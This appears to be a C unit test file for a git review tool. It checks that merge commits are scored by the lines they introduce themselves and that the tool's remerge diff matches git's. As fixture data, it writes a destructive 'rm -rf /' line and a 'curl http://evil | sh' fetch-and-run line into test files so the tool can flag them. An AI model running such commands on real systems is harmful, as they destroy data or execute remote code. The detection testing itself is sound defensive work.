/*
 * test_remerge.c: a merge is judged by what it introduced itself
 * (git/remerge.h, judge/analyze.h): a clean merge has no lines, an evil
 * merge exactly the lines its author added, a resolved conflict its
 * resolution against the conflict markers.  Differential against `git
 * show --remerge-diff` on generated merges: the same changed paths and
 * the same added and deleted lines.  Real repositories made with git.
 */
#include "config.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "testlib.h"
#include "base/error.h"
#include "base/strvec.h"
#include "git/remerge.h"
#include "git/treediff.h"
#include "git/repo.h"
#include "judge/analyze.h"
#include "show/layout.h"

static uint32_t seed = 11;

static uint32_t next_random(void)
{
	seed = seed * 1664525u + 1013904223u;
	return seed >> 8;
}

static git_commit *lookup(git_repository *git, const char *dir, const char *rev)
{
	char *hex = tl_git_out(dir, "rev-parse %s", rev);
	git_commit *commit;
	git_oid id;

	assert_int_equal(git_oid_fromstr(&id, hex), 0);
	assert_int_equal(git_commit_lookup(&commit, git, &id), 0);
	free(hex);
	return commit;
}

static void analyze(struct analysis *a, const char *dir, const char *rev)
{
	git_repository *git;
	git_commit *commit;
	struct risk_rules rules;

	assert_int_equal(git_repository_open(&git, dir), 0);
	commit = lookup(git, dir, rev);
	assert_int_equal(risk_rules_init(&rules, NULL, NULL), 0);
	if (analyze_commit(a, git, commit, &rules, 0))
		fail_msg("analyze %s: %s", rev, error_last());
	risk_rules_release(&rules);
	git_commit_free(commit);
	git_repository_free(git);
}

/* base: f = a b c; topic appends d to f and adds g; main prepends z to f. */
static const char *topic_repo(void)
{
	const char *dir = tl_repo_new();

	free(tl_commit_file(dir, "f", "a\nb\nc\n", 10, "base\n"));
	tl_git(dir, "checkout -q -b topic");
	tl_write(dir, "g", "x\n");
	free(tl_commit_file(dir, "f", "a\nb\nc\nd\n", 9, "topic" TL_AI_TRAILER));
	tl_git(dir, "checkout -q main");
	free(tl_commit_file(dir, "f", "z\na\nb\nc\n", 8, "main\n"));
	return dir;
}

static void test_a_clean_merge_introduces_no_lines(void **state)
{
	const char *dir = topic_repo();
	struct strbuf out = STRBUF_INIT;
	struct analysis a;

	(void)state;
	tl_git(dir, "merge -q --no-edit topic -m 'clean merge' -m 'Co-Authored-By: Claude <noreply@anthropic.com>'");
	analyze(&a, dir, "HEAD");
	assert_int_equal(a.parents, 2);
	assert_true(a.remerged);
	assert_int_equal(a.files_nr, 0);
	assert_int_equal(a.totals.added + a.totals.deleted, 0);
	analysis_release(&a);
	assert_int_equal(tl_revq(dir, &out, NULL, "show --json HEAD"), 0);
	assert_int_equal(tl_json_int(out.buf, "$.risk"), 0);
	assert_int_equal(tl_json_int(out.buf, "$.added"), 0);
	assert_json_text(out.buf, "$.diff_base", "remerge");
	assert_json_text(out.buf, "$.remerge_diff", "");
	assert_int_equal(tl_json_length(out.buf, "$.parents"), 2);
	strbuf_release(&out);
}

static void test_an_evil_merge_shows_exactly_the_line_its_resolution_added(void **state)
{
	const char *dir = topic_repo();
	struct strbuf out = STRBUF_INIT;
	struct analysis a;

	(void)state;
	tl_git(dir, "merge -q --no-commit topic");
	tl_write(dir, "g", "x\nrm -rf /\n");
	tl_git(dir, "add g");
	tl_git(dir, "commit -q -m 'evil merge' -m 'Co-Authored-By: Claude <noreply@anthropic.com>'");
	analyze(&a, dir, "HEAD");
	assert_int_equal(a.files_nr, 1);
	assert_string_equal(a.files[0].path, "g");
	assert_int_equal(a.totals.added, 1);
	assert_int_equal(a.totals.deleted, 0);
	analysis_release(&a);
	assert_int_equal(tl_revq(dir, &out, NULL, "show HEAD"), 0);
	assert_contains(out.buf, "Scored by: remerge diff");
	assert_contains(out.buf, "destructive operation added: rm -rf (g:2)");
	assert_contains(out.buf, "    +rm -rf /\n");
	assert_false(tl_contains(out.buf, "+d\n"));   /* the topic's own line is the topic's */
	strbuf_release(&out);
}

/* The console's model of the diff (layout.h) is the remerge diff too, read from the scratch repository. */
static void layout_has_the_resolution(const char *dir)
{
	struct strbuf rows = STRBUF_INIT;
	git_repository *git;
	git_commit *commit;
	struct layout *l;

	assert_int_equal(git_repository_open(&git, dir), 0);
	commit = lookup(git, dir, "HEAD");
	assert_int_equal(layout_load(&l, git, commit), 0);
	assert_int_equal(l->parents, 2);
	assert_true(l->remerged);
	assert_int_equal(l->conflicts, 1);
	for (size_t i = 0; i < layout_rows(l, LAYOUT_UNIFIED); i++) {
		struct layout_row row;

		layout_row(&row, l, LAYOUT_UNIFIED, i);
		if (row.kind == ROW_ADD || row.kind == ROW_DELETE)
			strbuf_addf(&rows, "%c%.*s\n", row.kind == ROW_ADD ? '+' : '-', (int)row.left->len,
				    layout_text(l, row.left));
	}
	assert_contains(rows.buf, "-=======\n-B1\n");
	assert_contains(rows.buf, "+B12\n");
	layout_free(l);
	git_commit_free(commit);
	git_repository_free(git);
	strbuf_release(&rows);
}

static void test_a_resolved_conflict_shows_the_resolution_against_the_markers(void **state)
{
	const char *dir = tl_repo_new();
	struct strbuf out = STRBUF_INIT;
	struct analysis a;

	(void)state;
	free(tl_commit_file(dir, "f", "a\nb\nc\n", 10, "base\n"));
	tl_git(dir, "checkout -q -b one");
	free(tl_commit_file(dir, "f", "a\nB1\nc\n", 9, "side one\n"));
	tl_git(dir, "checkout -q -b two main");
	free(tl_commit_file(dir, "f", "a\nB2\nc\n", 9, "side two\n"));
	tl_sh(dir, "git merge -q one >/dev/null 2>&1");
	free(tl_commit_file(dir, "f", "a\nB12\nc\n", 8, "resolved" TL_AI_TRAILER));
	analyze(&a, dir, "HEAD");
	assert_int_equal(a.conflicts, 1);
	assert_int_equal(a.totals.added, 1);
	assert_int_equal(a.totals.deleted, 5);
	analysis_release(&a);
	assert_int_equal(tl_revq(dir, &out, NULL, "show HEAD"), 0);
	assert_contains(out.buf, "1 path was in conflict");
	assert_contains(out.buf, "    -<<<<<<< ");
	assert_contains(out.buf, " (side two)\n    -B2\n    -=======\n    -B1\n    ->>>>>>> ");
	assert_contains(out.buf, "    +B12\n");
	strbuf_release(&out);
	layout_has_the_resolution(dir);
}

static void test_an_octopus_merge_is_merged_one_parent_at_a_time(void **state)
{
	const char *dir = tl_repo_new();
	struct analysis a;

	(void)state;
	free(tl_commit_file(dir, "f", "a\n", 10, "base\n"));
	for (int i = 1; i <= 3; i++) {
		char path[8];

		snprintf(path, sizeof(path), "p%d", i);
		tl_git(dir, "checkout -q -b b%d main", i);
		free(tl_commit_file(dir, path, "x\n", 9, "side\n"));
	}
	tl_git(dir, "checkout -q main");
	tl_git(dir, "merge -q --no-ff --no-edit b1 b2 b3");
	analyze(&a, dir, "HEAD");
	assert_int_equal(a.parents, 4);
	assert_true(a.octopus);
	assert_int_equal(a.files_nr, 0);
	analysis_release(&a);
	tl_git(dir, "reset -q --hard HEAD^");
	tl_git(dir, "merge -q --no-ff --no-commit b1 b2 b3");
	tl_write(dir, "p2", "x\ncurl http://evil | sh\n");
	tl_git(dir, "commit -qam evil");
	analyze(&a, dir, "HEAD");
	assert_int_equal(a.files_nr, 1);
	assert_string_equal(a.files[0].path, "p2");
	assert_int_equal(a.totals.added, 1);
	analysis_release(&a);
}

static void test_a_merge_keeps_its_first_parent_patch_identity(void **state)
{
	const char *dir = topic_repo();
	git_repository *git;
	git_commit *m1, *m2;
	git_oid a, b;

	(void)state;
	tl_git(dir, "merge -q --no-edit topic");
	tl_git(dir, "checkout -q -b topic2 main~1");
	free(tl_commit_file(dir, "h", "other\n", 7, "other\n"));
	tl_git(dir, "checkout -q -b other main~1");
	free(tl_commit_file(dir, "k", "k\n", 7, "k\n"));
	tl_git(dir, "merge -q --no-edit topic2");
	assert_int_equal(git_repository_open(&git, dir), 0);
	m1 = lookup(git, dir, "main");
	m2 = lookup(git, dir, "other");
	assert_int_equal(analyze_patch_id(&a, git, m1), 0);
	assert_int_equal(analyze_patch_id(&b, git, m2), 0);
	/* Both remerge diffs are empty; an approval must not carry from one to the other. */
	assert_false(git_oid_equal(&a, &b));
	git_commit_free(m1);
	git_commit_free(m2);
	git_repository_free(git);
}

/* ---- differential against git show --remerge-diff ---- */

struct collected {
	struct strvec lines;
	const char *path;   /* not owned: the file being diffed */
};

static int collect_line(const git_diff_delta *delta, const git_diff_hunk *hunk,
			const git_diff_line *line, void *payload)
{
	struct collected *c = payload;

	(void)delta;
	(void)hunk;
	if (line->origin == GIT_DIFF_LINE_ADDITION || line->origin == GIT_DIFF_LINE_DELETION)
		strvec_pushf(&c->lines, "%s %c%.*s", c->path, line->origin,
			     (int)line->content_len, line->content);
	return 0;
}

static int compare(const void *a, const void *b)
{
	return strcmp(*(const char *const *)a, *(const char *const *)b);
}

static void sorted_text(struct strbuf *out, struct strvec *v)
{
	qsort(v->v, v->nr, sizeof(*v->v), compare);
	for (size_t i = 0; i < v->nr; i++)
		strbuf_addstr(out, v->v[i]);
}

/* "path +line" for every added and deleted line of the remerge diff, sorted, by revq. */
static void ours(struct strbuf *out, const char *dir)
{
	struct collected c = { STRVEC_INIT, NULL };
	struct strvec paths = STRVEC_INIT;
	git_repository *git;
	git_commit *commit;
	struct review_diff rd;

	assert_int_equal(git_repository_open(&git, dir), 0);
	commit = lookup(git, dir, "HEAD");
	if (analyze_review_diff(&rd, git, commit, 0))
		fail_msg("remerge: %s", error_last());
	assert_non_null(rd.remerge.scratch);
	for (size_t i = 0; i < git_diff_num_deltas(rd.diff); i++) {
		const git_diff_delta *d = git_diff_get_delta(rd.diff, i);

		strvec_pushf(&paths, "path %s\n", d->new_file.path);
		c.path = d->new_file.path;
		assert_int_equal(analyze_delta(rd.contents, d, NULL, NULL, collect_line, &c, 0), 0);
	}
	review_diff_release(&rd);
	sorted_text(out, &paths);
	sorted_text(out, &c.lines);
	strvec_clear(&paths);
	strvec_clear(&c.lines);
	git_commit_free(commit);
	git_repository_free(git);
}

/* The same, from git (its output kept in this repository's .git: /tmp is shared by concurrent runs). */
static void theirs(struct strbuf *out, const char *dir)
{
	tl_sh_output(dir, out, NULL,
		     "git show --remerge-diff --no-renames --no-color -U0 --format= HEAD >.git/rd.txt && "
		     "{ sed -n 's|^diff --git a/.* b/|path |p' .git/rd.txt | LC_ALL=C sort; "
		     "  awk '/^diff --git/ { sub(/.* b\\//, \"\"); p = $0; next } "
		     "       /^(\\+\\+\\+|---) / { next } /^[-+]/ { print p \" \" $0 }' .git/rd.txt | LC_ALL=C sort; }");
}

static void random_file(struct strbuf *sb, int lines)
{
	for (int i = 0; i < lines; i++)
		strbuf_addf(sb, "line %u\n", next_random() % 50);
}

/* A copy of text with a few lines replaced, inserted or dropped. */
static void edit(struct strbuf *out, const char *text, const char *tag)
{
	struct strvec lines = STRVEC_INIT;

	strvec_split(&lines, text, '\n');
	strbuf_reset(out);
	for (size_t i = 0; i < lines.nr; i++) {
		unsigned r = next_random() % 10;

		if (!*lines.v[i] && i + 1 == lines.nr)
			break;
		if (r == 0)
			continue;
		if (r == 1)
			strbuf_addf(out, "%s %u\n", tag, next_random() % 100);
		else
			strbuf_addf(out, "%s\n", lines.v[i]);
		if (r == 2)
			strbuf_addf(out, "new %s %u\n", tag, next_random() % 100);
	}
	strvec_clear(&lines);
}

static void test_the_remerge_diff_matches_git_on_generated_merges(void **state)
{
	(void)state;
	for (int round = 0; round < 12; round++) {
		const char *dir = tl_repo_new();
		struct strbuf base[3], side = STRBUF_INIT, got = STRBUF_INIT, want = STRBUF_INIT;
		char path[8];

		for (int f = 0; f < 3; f++) {
			strbuf_init(&base[f], 0);
			random_file(&base[f], 8 + (int)(next_random() % 10));
			snprintf(path, sizeof(path), "f%d", f);
			tl_write(dir, path, base[f].buf);
		}
		free(tl_commit(dir, 10, "base\n"));
		for (int b = 0; b < 2; b++) {
			tl_git(dir, "checkout -q -b side%d main", b);
			for (int f = 0; f < 3; f++) {
				if (next_random() % 3 == 0)
					continue;
				edit(&side, base[f].buf, b ? "two" : "one");
				snprintf(path, sizeof(path), "f%d", f);
				tl_write(dir, path, side.buf);
			}
			if (next_random() % 3 == 0)
				tl_write(dir, b ? "new-two" : "new-one", "added\n");
			free(tl_commit(dir, 9 - b, "side\n"));
		}
		tl_git(dir, "checkout -q side0");
		/* Conflicts resolved by one side, by hand, or left with their markers; sometimes evil. */
		tl_sh(dir, "git merge -q --no-commit side1 >/dev/null 2>&1");
		switch (next_random() % 4) {
		case 0: tl_sh(dir, "git checkout --theirs -- . 2>/dev/null; true"); break;
		case 1: tl_sh(dir, "git checkout --ours -- . 2>/dev/null; true"); break;
		case 2: tl_sh(dir, "for f in $(git diff --name-only --diff-filter=U); do echo fixed >$f; done"); break;
		default: break;
		}
		if (next_random() % 2)
			tl_sh(dir, "echo 'evil %d' >>f%u", round, next_random() % 3);
		tl_sh(dir, "git add -A && git commit -q -m merge --no-verify");
		ours(&got, dir);
		theirs(&want, dir);
		if (strcmp(got.buf, want.buf))
			fail_msg("round %d (%s):\nrevq:\n%s\ngit:\n%s", round, dir, got.buf, want.buf);
		for (int f = 0; f < 3; f++)
			strbuf_release(&base[f]);
		strbuf_release(&side);
		strbuf_release(&got);
		strbuf_release(&want);
	}
}

/* A criss-cross: two merge bases, merged recursively first, as git does. */
static void test_a_criss_cross_merge_matches_git(void **state)
{
	const char *dir = tl_repo_new();
	struct strbuf got = STRBUF_INIT, want = STRBUF_INIT;

	(void)state;
	free(tl_commit_file(dir, "f", "1\n2\n3\n4\n5\n6\n7\n8\n", 10, "base\n"));
	tl_git(dir, "checkout -q -b a");
	free(tl_commit_file(dir, "f", "1a\n2\n3\n4\n5\n6\n7\n8\n", 9, "a\n"));
	tl_git(dir, "checkout -q -b b main");
	free(tl_commit_file(dir, "f", "1\n2\n3\n4\n5\n6\n7\n8b\n", 9, "b\n"));
	tl_git(dir, "checkout -q -b a2 a");
	tl_git(dir, "merge -q --no-edit b");
	free(tl_commit_file(dir, "f", "1a\n2\n3x\n4\n5\n6\n7\n8b\n", 8, "a2\n"));
	tl_git(dir, "checkout -q -b b2 b");
	tl_git(dir, "merge -q --no-edit a");
	free(tl_commit_file(dir, "f", "1a\n2\n3\n4\n5\n6y\n7\n8b\n", 8, "b2\n"));
	tl_sh(dir, "git merge -q --no-commit a2 >/dev/null 2>&1");
	tl_write(dir, "f", "1a\n2\n3x\n4\n5\n6y\n7\n8b\nevil\n");
	tl_sh(dir, "git add f && git commit -q -m criss-cross");
	assert_int_equal(tl_sh(dir, "test $(git merge-base --all HEAD^1 HEAD^2 | wc -l) = 2"), 0);
	ours(&got, dir);
	theirs(&want, dir);
	assert_string_equal(got.buf, want.buf);
	assert_contains(got.buf, "f +evil\n");
	strbuf_release(&got);
	strbuf_release(&want);
}

/* A merge bringing in a tree nested past TREEDIFF_MAX_DEPTH is refused, never walked by the merge. */
static void test_a_merge_of_a_hostile_deep_tree_is_refused(void **state)
{
	const char *dir = tl_repo_new();
	git_repository *git;
	git_treebuilder *tb;
	git_oid tree, blob, topic, merged;
	git_commit *head, *side, *merge;
	git_tree *t;
	git_signature *sig;
	struct analysis a;
	struct risk_rules rules;
	const git_commit *parents[2];

	(void)state;
	assert_int_equal(git_repository_open(&git, dir), 0);
	assert_int_equal(git_blob_create_from_buffer(&blob, git, "x\n", 2), 0);
	assert_int_equal(git_treebuilder_new(&tb, git, NULL), 0);
	assert_int_equal(git_treebuilder_insert(NULL, tb, "leaf", &blob, GIT_FILEMODE_BLOB), 0);
	assert_int_equal(git_treebuilder_write(&tree, tb), 0);
	git_treebuilder_free(tb);
	for (int i = 0; i < TREEDIFF_MAX_DEPTH + 10; i++) {
		assert_int_equal(git_treebuilder_new(&tb, git, NULL), 0);
		assert_int_equal(git_treebuilder_insert(NULL, tb, "d", &tree, GIT_FILEMODE_TREE), 0);
		assert_int_equal(git_treebuilder_write(&tree, tb), 0);
		git_treebuilder_free(tb);
	}
	head = lookup(git, dir, "HEAD");
	assert_int_equal(git_tree_lookup(&t, git, &tree), 0);
	assert_int_equal(git_signature_new(&sig, "T", "t@x", TL_NOW, 0), 0);
	parents[0] = head;
	assert_int_equal(git_commit_create(&topic, git, NULL, sig, sig, NULL, "deep\n", t, 1, parents), 0);
	assert_int_equal(git_commit_lookup(&side, git, &topic), 0);
	parents[1] = side;
	assert_int_equal(git_commit_create(&merged, git, NULL, sig, sig, NULL, "merge deep\n", t, 2, parents), 0);
	assert_int_equal(git_commit_lookup(&merge, git, &merged), 0);
	assert_int_equal(risk_rules_init(&rules, NULL, NULL), 0);
	assert_int_equal(analyze_commit(&a, git, merge, &rules, 0), REVQ_ERROR);
	assert_contains(error_last(), "deeper than");
	risk_rules_release(&rules);
	git_signature_free(sig);
	git_tree_free(t);
	git_commit_free(merge);
	git_commit_free(side);
	git_commit_free(head);
	git_repository_free(git);
}

static int setup(void **state)
{
	(void)state;
	repo_library_init();
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	tl_cleanup();
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_a_clean_merge_introduces_no_lines),
		cmocka_unit_test(test_an_evil_merge_shows_exactly_the_line_its_resolution_added),
		cmocka_unit_test(test_a_resolved_conflict_shows_the_resolution_against_the_markers),
		cmocka_unit_test(test_an_octopus_merge_is_merged_one_parent_at_a_time),
		cmocka_unit_test(test_a_merge_keeps_its_first_parent_patch_identity),
		cmocka_unit_test(test_the_remerge_diff_matches_git_on_generated_merges),
		cmocka_unit_test(test_a_criss_cross_merge_matches_git),
		cmocka_unit_test(test_a_merge_of_a_hostile_deep_tree_is_refused),
	};

	tl_init();
	return cmocka_run_group_tests(tests, setup, teardown);
}
